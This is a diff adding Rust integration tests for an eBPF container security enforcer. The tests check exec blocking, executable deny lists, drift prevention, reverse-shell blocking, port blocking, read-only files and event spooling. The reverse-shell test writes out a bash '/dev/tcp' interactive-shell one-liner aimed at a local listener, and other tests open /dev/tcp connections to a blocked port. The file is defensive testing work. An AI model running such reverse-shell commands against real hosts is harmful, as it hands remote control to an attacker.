@@ -1,0 +1,542 @@
+//! The enforcer against real containers on this kernel: runc containers from the fixture
+//! image's root filesystem (../shared/images/build-fixture-images.sh, `debian-app`), the
+//! agent's real main loop with its eBPF programs, and the scenarios of issue 14: exec into a
+//! running container blocked (enforce) and detected (audit), a deny-listed executable killed,
+//! drift, a reverse shell against a local listener, a connect refused by cgroup/connect4, an
+//! agent restart with events in the spool, a policy file with an error.
+//!
+//! Needs root, runc, BPF and the fixture rootfs; without them each test prints `SKIPPED:` and
+//! why. The policy-error test needs none of them.
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::mpsc;
+use std::thread::JoinHandle;
+use std::time::{Duration, Instant};
+
+use kabuto_api::{AuditResult, RuntimeAuditEvent};
+use kabuto_enforcer::run::{Config, RunError, Summary, run};
+
+fn fixture_rootfs() -> PathBuf {
+    let base = std::env::var_os("FIXTURE_DIR").map_or_else(
+        || {
+            PathBuf::from(std::env::var_os("HOME").unwrap_or_default())
+                .join(".cache/kabuto-fixtures")
+        },
+        PathBuf::from,
+    );
+    base.join("out/rootfs/debian-app")
+}
+
+/// Root, runc, the fixture rootfs and a kernel that loads the programs; or a printed note.
+fn prerequisites() -> bool {
+    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
+    let root = status
+        .lines()
+        .find(|l| l.starts_with("Uid:"))
+        .is_some_and(|l| l.split_whitespace().nth(2) == Some("0"));
+    let why = if !root {
+        "the container tests need root (runc, eBPF)".to_owned()
+    } else if Command::new("runc").arg("--version").output().is_err() {
+        "runc is not installed (scripts/setup-runtime.sh)".to_owned()
+    } else if !fixture_rootfs().join("bin/sh").exists() {
+        format!(
+            "no fixture rootfs at {} (run ../shared/images/build-fixture-images.sh)",
+            fixture_rootfs().display()
+        )
+    } else if kabuto_enforcer::run::find_cgroup2().is_none() {
+        "no cgroup2 hierarchy is mounted".to_owned()
+    } else {
+        return true;
+    };
+    eprintln!("SKIPPED: {why}");
+    false
+}
+
+/// A runc container running `sleep` on the fixture rootfs (read-only, a tmpfs on /tmp), on
+/// the host's network (so it reaches the test's listeners on 127.0.0.1).
+struct Container {
+    id: String,
+    _bundle: tempfile::TempDir,
+}
+
+impl Container {
+    fn start(name: &str) -> Container {
+        Container::start_with(name, &[])
+    }
+
+    /// A container with extra OCI annotations (labels to scopes).
+    fn start_with(name: &str, annotations: &[(&str, &str)]) -> Container {
+        let id = format!("kabuto-it-{name}-{}", std::process::id());
+        let bundle = tempfile::tempdir().expect("bundle");
+        let config = serde_json::json!({
+            "ociVersion": "1.0.2",
+            "process": {
+                "terminal": false,
+                "user": {"uid": 0, "gid": 0},
+                "args": ["/bin/sleep", "600"],
+                "env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
+                "cwd": "/",
+                "capabilities": {
+                    "bounding": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL", "CAP_SETUID", "CAP_SETGID"],
+                    "effective": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL", "CAP_SETUID", "CAP_SETGID"],
+                    "permitted": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL", "CAP_SETUID", "CAP_SETGID"]
+                },
+                "rlimits": [{"type": "RLIMIT_NOFILE", "hard": 1024, "soft": 1024}],
+                "noNewPrivileges": true
+            },
+            "root": {"path": fixture_rootfs(), "readonly": true},
+            "hostname": name,
+            "annotations": {
+                "io.kabuto.image": "docker.io/fixture/debian-app:latest",
+                "io.kubernetes.pod.name": format!("{name}-pod"),
+                "io.kubernetes.pod.namespace": "kabuto-tests"
+            },
+            "mounts": [
+                {"destination": "/proc", "type": "proc", "source": "proc"},
+                {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "strictatime", "mode=755", "size=65536k"]},
+                {"destination": "/tmp", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "nodev", "mode=1777"]},
+                {"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["nosuid", "noexec", "nodev", "ro"]}
+            ],
+            "linux": {
+                "namespaces": [{"type": "pid"}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}],
+                "maskedPaths": ["/proc/kcore"],
+                "readonlyPaths": ["/proc/sys"]
+            }
+        });
+        let mut config = config;
+        for (key, value) in annotations {
+            config["annotations"][*key] = serde_json::Value::from(*value);
+        }
+        std::fs::write(bundle.path().join("config.json"), config.to_string()).expect("config");
+        let status = Command::new("runc")
+            .args(["run", "-d", "--bundle"])
+            .arg(bundle.path())
+            .arg(&id)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::inherit())
+            .status()
+            .expect("runc run");
+        assert!(status.success(), "runc run {id}: {status}");
+        Container {
+            id,
+            _bundle: bundle,
+        }
+    }
+
+    /// `runc exec` of `sh -c script`; stdout and stderr together, and the exit code.
+    fn exec(&self, script: &str) -> (String, Option<i32>) {
+        let out = Command::new("runc")
+            .args(["exec", &self.id, "/bin/sh", "-c", &format!("{script} 2>&1")])
+            .stdin(Stdio::null())
+            .output()
+            .expect("runc exec");
+        let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
+        text.push_str(&String::from_utf8_lossy(&out.stderr));
+        (text, out.status.code())
+    }
+}
+
+impl Drop for Container {
+    fn drop(&mut self) {
+        let _ = Command::new("runc")
+            .args(["delete", "-f", &self.id])
+            .stderr(Stdio::null())
+            .status();
+    }
+}
+
+/// The agent's main loop on a thread.
+struct Enforcer {
+    stop: Arc<AtomicBool>,
+    thread: Option<JoinHandle<Result<Summary, RunError>>>,
+    events: PathBuf,
+}
+
+impl Enforcer {
+    fn start(config: Config) -> Enforcer {
+        let stop = Arc::new(AtomicBool::new(false));
+        let (tx, rx) = mpsc::channel();
+        let events = config.events.clone().expect("an event file");
+        let flag = Arc::clone(&stop);
+        let thread = std::thread::spawn(move || {
+            run(&config, &flag, |mode| {
+                let _ = tx.send(mode.to_owned());
+            })
+        });
+        match rx.recv_timeout(Duration::from_secs(60)) {
+            Ok(mode) => eprintln!("{mode}"),
+            Err(_) => {
+                let result = thread.join().expect("agent thread");
+                panic!("the enforcer did not start: {result:?}");
+            }
+        }
+        Enforcer {
+            stop,
+            thread: Some(thread),
+            events,
+        }
+    }
+
+    fn stop(mut self) -> Summary {
+        self.stop.store(true, Ordering::Relaxed);
+        self.thread
+            .take()
+            .expect("running")
+            .join()
+            .expect("agent thread")
+            .expect("the enforcer ran")
+    }
+
+    /// Waits for an audit event in the event file.
+    fn wait_for(&self, what: impl Fn(&RuntimeAuditEvent) -> bool) -> RuntimeAuditEvent {
+        let deadline = Instant::now() + Duration::from_secs(10);
+        loop {
+            if let Some(event) = read_events(&self.events).into_iter().find(|e| what(e)) {
+                return event;
+            }
+            assert!(
+                Instant::now() < deadline,
+                "no such audit event in {:#?}",
+                read_events(&self.events)
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+}
+
+impl Drop for Enforcer {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        if let Some(thread) = self.thread.take() {
+            let _ = thread.join();
+        }
+    }
+}
+
+fn read_events(path: &Path) -> Vec<RuntimeAuditEvent> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .map(|line| serde_json::from_str(line).expect("an audit event line"))
+        .collect()
+}
+
+fn config(dir: &Path, policy: &str) -> Config {
+    let policy_file = dir.join("policy.yaml");
+    std::fs::write(&policy_file, policy).expect("policy");
+    Config {
+        policies: vec![policy_file],
+        events: Some(dir.join("events.jsonl")),
+        spool_dir: dir.join("spool"),
+        spool_max_bytes: 1 << 20,
+        server: None,
+        state_roots: vec![PathBuf::from("/run/runc")],
+        cgroup_root: None,
+        host: "test-node".into(),
+    }
+}
+
+fn is(
+    event: &RuntimeAuditEvent,
+    container: &Container,
+    control: &str,
+    result: AuditResult,
+) -> bool {
+    event
+        .container
+        .as_ref()
+        .is_some_and(|c| c.id == container.id)
+        && event.control == control
+        && event.result == result
+}
+
+#[test]
+fn exec_into_a_container_is_blocked_in_enforce_mode_detected_in_audit_mode_and_bypassed() {
+    if !prerequisites() {
+        return;
+    }
+    let locked = Container::start("exec-enforce");
+    let audited = Container::start("exec-audit");
+    let bypassed = Container::start_with("exec-bypass", &[("kabuto.io/debug", "true")]);
+    let dir = tempfile::tempdir().expect("dir");
+    let policy = format!(
+        "- name: no-exec\n  enforce: true\n  scope: {{expression: v1 || v2, variables: [{{attribute: container.name, value: {}}}, {{attribute: container.name, value: {}}}]}}\n  container_exec: {{enabled: true}}\n\
+         \x20 bypass_scope: {{enabled: true, scope: {{expression: v1, variables: [{{attribute: container.label, name: kabuto.io/debug, value: 'true'}}]}}}}\n\
+         - name: watch-exec\n  enforce: false\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n  container_exec: {{enabled: true}}\n",
+        locked.id, bypassed.id, audited.id
+    );
+    let enforcer = Enforcer::start(config(dir.path(), &policy));
+    let (text, code) = locked.exec("echo entered");
+    assert!(!text.contains("entered"), "the exec ran: {text}");
+    assert_ne!(code, Some(0), "{text}");
+    let blocked = enforcer.wait_for(|e| is(e, &locked, "KRT001", AuditResult::Block));
+    assert_eq!(blocked.policy, "no-exec");
+    assert_eq!(blocked.process.path, "/bin/sh");
+    assert_eq!(blocked.host, "test-node");
+    assert_eq!(
+        blocked.image.as_deref(),
+        Some("docker.io/fixture/debian-app:latest")
+    );
+    assert_eq!(
+        blocked.pod.as_ref().map(|p| p.namespace.as_str()),
+        Some("kabuto-tests")
+    );
+    assert!(
+        blocked
+            .evidence
+            .enforcement
+            .as_deref()
+            .is_some_and(|e| e.contains("in the kernel")),
+        "{blocked:?}"
+    );
+    let (text, code) = audited.exec("echo entered");
+    assert_eq!(
+        (text.trim(), code),
+        ("entered", Some(0)),
+        "audit mode lets it run"
+    );
+    let detected = enforcer.wait_for(|e| is(e, &audited, "KRT001", AuditResult::Detect));
+    assert_eq!(detected.policy, "watch-exec");
+    assert_eq!(detected.evidence.enforcement, None);
+    let (text, code) = bypassed.exec("echo entered");
+    assert_eq!(
+        (text.trim(), code),
+        ("entered", Some(0)),
+        "the bypass scope lets it run"
+    );
+    assert!(
+        read_events(&enforcer.events)
+            .iter()
+            .all(|e| e.container.as_ref().is_none_or(|c| c.id != bypassed.id)),
+        "nothing recorded for the bypassed container"
+    );
+    let summary = enforcer.stop();
+    assert_eq!((summary.dropped, summary.lost), (0, 0));
+}
+
+#[test]
+fn deny_listed_executables_drift_reverse_shells_and_blocked_ports() {
+    if !prerequisites() {
+        return;
+    }
+    let container = Container::start("protect");
+    let dir = tempfile::tempdir().expect("dir");
+    let shell_listener = TcpListener::bind("127.0.0.1:0").expect("listen");
+    let shell_port = shell_listener.local_addr().expect("addr").port();
+    let blocked_listener = TcpListener::bind("127.0.0.1:0").expect("listen");
+    let blocked_port = blocked_listener.local_addr().expect("addr").port();
+    let policy = format!(
+        "name: protect\nenforce: true\n\
+         scope: {{expression: v1, variables: [{{attribute: kubernetes.pod, value: 'protect-*'}}]}}\n\
+         executable_blacklist: {{enabled: true, executables: [id]}}\n\
+         drift_prevention: {{enabled: true}}\n\
+         reverse_shell: {{enabled: true}}\n\
+         port_block: {{enabled: true, block_outbound_ports: ['{blocked_port}']}}\n"
+    );
+    let enforcer = Enforcer::start(config(dir.path(), &policy));
+
+    let (text, _) = container.exec("id; echo rc=$?");
+    assert!(text.contains("rc=137") && !text.contains("uid="), "{text}");
+    let event = enforcer.wait_for(|e| is(e, &container, "KRT002", AuditResult::Block));
+    assert_eq!(event.process.path, "/usr/bin/id");
+    assert_eq!(event.lineage.first().map(|p| p.comm.as_str()), Some("sh"));
+    let (text, _) = container.exec("/bin/true; echo rc=$?");
+    assert!(text.contains("rc=0"), "other programs run: {text}");
+
+    let (text, _) = container.exec("cp /bin/echo /tmp/drifted && /tmp/drifted hello; echo rc=$?");
+    assert!(text.contains("rc=137") && !text.contains("hello"), "{text}");
+    let event = enforcer.wait_for(|e| is(e, &container, "KRT004", AuditResult::Block));
+    assert_eq!(event.process.path, "/tmp/drifted");
+
+    let accept = std::thread::spawn(move || {
+        let (mut stream, _) = shell_listener.accept().expect("accept");
+        stream
+            .set_read_timeout(Some(Duration::from_secs(3)))
+            .expect("timeout");
+        let _ = stream.write_all(b"echo owned\n");
+        let mut got = String::new();
+        let _ = stream.read_to_string(&mut got);
+        got
+    });
+    let (text, _) = container.exec(&format!(
+        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1; echo rc=$?'"
+    ));
+    let got = accept.join().expect("listener");
+    assert!(
+        !got.contains("owned") && !got.contains('#'),
+        "the listener got a shell: {got:?}"
+    );
+    assert!(text.contains("rc=137"), "{text}");
+    let event = enforcer.wait_for(|e| is(e, &container, "KRT005", AuditResult::Block));
+    assert_eq!(event.process.comm, "bash");
+    assert_eq!(
+        event.evidence.remote.as_deref(),
+        Some(format!("127.0.0.1:{shell_port}").as_str())
+    );
+
+    let (text, _) = container.exec(&format!(
+        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{blocked_port}'"
+    ));
+    assert!(text.contains("Operation not permitted"), "{text}");
+    let event = enforcer.wait_for(|e| is(e, &container, "KRT012", AuditResult::Block));
+    assert!(
+        event
+            .evidence
+            .enforcement
+            .as_deref()
+            .is_some_and(|e| e.contains("EPERM")),
+        "{event:?}"
+    );
+    // The host is not the container: it still connects.
+    assert!(std::net::TcpStream::connect(("127.0.0.1", blocked_port)).is_ok());
+    enforcer.stop();
+}
+
+#[test]
+fn a_write_to_a_read_only_path_is_killed_and_monitored_files_are_detected() {
+    if !prerequisites() {
+        return;
+    }
+    let container = Container::start("files");
+    let dir = tempfile::tempdir().expect("dir");
+    let policy = format!(
+        "- name: ro\n  enforce: true\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {id}}}]}}\n  readonly_files: {{enabled: true, readonly_files: ['/tmp/protected/*']}}\n\
+         - name: fim\n  enforce: false\n  scope: {{expression: v1, variables: [{{attribute: container.name, value: {id}}}]}}\n  file_integrity_monitoring: {{enabled: true, monitored_files: ['/tmp/config/*']}}\n",
+        id = container.id
+    );
+    let (text, code) = container.exec("mkdir -p /tmp/protected /tmp/config");
+    assert_eq!(code, Some(0), "{text}");
+    let enforcer = Enforcer::start(config(dir.path(), &policy));
+    let (text, _) = container
+        .exec("(echo secret > /tmp/protected/file); echo rc=$?; cat /tmp/protected/file; echo end");
+    assert!(text.contains("rc=137"), "{text}");
+    assert!(!text.contains("secret"), "the write happened: {text}");
+    let event = enforcer.wait_for(|e| is(e, &container, "KRT006", AuditResult::Block));
+    assert_eq!(event.evidence.file.as_deref(), Some("/tmp/protected/file"));
+    let (text, _) = container.exec("echo a: 1 > /tmp/config/app.yaml; cat /tmp/config/app.yaml");
+    assert_eq!(text.trim(), "a: 1", "monitoring lets it happen");
+    let event = enforcer.wait_for(|e| is(e, &container, "KRT007", AuditResult::Detect));
+    assert_eq!(event.policy, "fim");
+    enforcer.stop();
+}
+
+/// A one-request-at-a-time HTTP server that answers 204 and keeps the bodies it got.
+fn audit_server() -> (String, mpsc::Receiver<String>) {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
+    let url = format!("http://{}", listener.local_addr().expect("addr"));
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { return };
+            let mut reader = BufReader::new(stream.try_clone().expect("clone"));
+            let mut length = 0;
+            let mut line = String::new();
+            while reader.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
+                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
+                    length = v.trim().parse().unwrap_or(0);
+                }
+                line.clear();
+            }
+            let mut body = vec![0; length];
+            let _ = reader.read_exact(&mut body);
+            let _ = stream.write_all(
+                b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+            );
+            if tx
+                .send(String::from_utf8_lossy(&body).into_owned())
+                .is_err()
+            {
+                return;
+            }
+        }
+    });
+    (url, rx)
+}
+
+#[test]
+fn events_wait_in_the_spool_across_a_restart_until_the_server_takes_them() {
+    if !prerequisites() {
+        return;
+    }
+    let container = Container::start("spool");
+    let dir = tempfile::tempdir().expect("dir");
+    let policy = format!(
+        "name: spool-test\nenforce: false\n\
+         scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n\
+         executable_blacklist: {{enabled: true, executables: [id]}}\n",
+        container.id
+    );
+    // A server address nothing listens on: every delivery fails.
+    let closed = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let closed_url = format!("http://{}", closed.local_addr().expect("addr"));
+    drop(closed);
+    let mut first = config(dir.path(), &policy);
+    first.server = Some((closed_url, "token".into()));
+    let enforcer = Enforcer::start(first.clone());
+    let (text, _) = container.exec("id -u");
+    assert_eq!(text.trim(), "0", "audit mode: id runs");
+    enforcer.wait_for(|e| is(e, &container, "KRT002", AuditResult::Detect));
+    enforcer.stop();
+    let spooled: u64 = std::fs::read_dir(dir.path().join("spool"))
+        .expect("spool")
+        .filter_map(Result::ok)
+        .filter(|e| e.file_name().to_string_lossy().starts_with("segment-"))
+        .map(|e| e.metadata().map(|m| m.len()).unwrap_or(0))
+        .sum();
+    assert!(spooled > 0, "the undelivered event is in the spool");
+
+    let (url, bodies) = audit_server();
+    let mut second = first;
+    second.server = Some((url, "token".into()));
+    let enforcer = Enforcer::start(second);
+    let body = bodies
+        .recv_timeout(Duration::from_secs(15))
+        .expect("a delivery after the restart");
+    let sent: serde_json::Value = serde_json::from_str(&body).expect("json");
+    let event = &sent["events"][0];
+    assert_eq!(event["action"], "Runtime.executable_blacklist.Detect");
+    assert_eq!(event["detail"]["policy"], "spool-test");
+    assert_eq!(event["target"], format!("container {}", container.id));
+    enforcer.stop();
+    assert_eq!(
+        read_events(&dir.path().join("events.jsonl"))
+            .iter()
+            .filter(|e| e.control == "KRT002")
+            .count(),
+        1,
+        "the event file got it once, before the restart"
+    );
+}
+
+#[test]
+fn a_policy_file_with_an_error_stops_the_enforcer_with_its_line() {
+    let dir = tempfile::tempdir().expect("dir");
+    let broken = config(
+        dir.path(),
+        "name: broken\nenforce: true\ncontainer_exec:\n  enabled: yes please\n",
+    );
+    let stop = AtomicBool::new(true);
+    let error = run(&broken, &stop, |_| panic!("must not start")).expect_err("refused");
+    assert!(matches!(error, RunError::Policy(_)), "{error}");
+    let text = error.to_string();
+    let no_sink = Config {
+        events: None,
+        server: None,
+        ..config(dir.path(), "name: fine\n")
+    };
+    let error = run(&no_sink, &stop, |_| panic!("must not start")).expect_err("no sink");
+    assert!(matches!(error, RunError::NoSink), "{error}");
+    assert!(
+        text.starts_with(&format!(
+            "{}:4:3: field `container_exec.enabled`",
+            dir.path().join("policy.yaml").display()
+        )),
+        "{text}"
+    );
+}
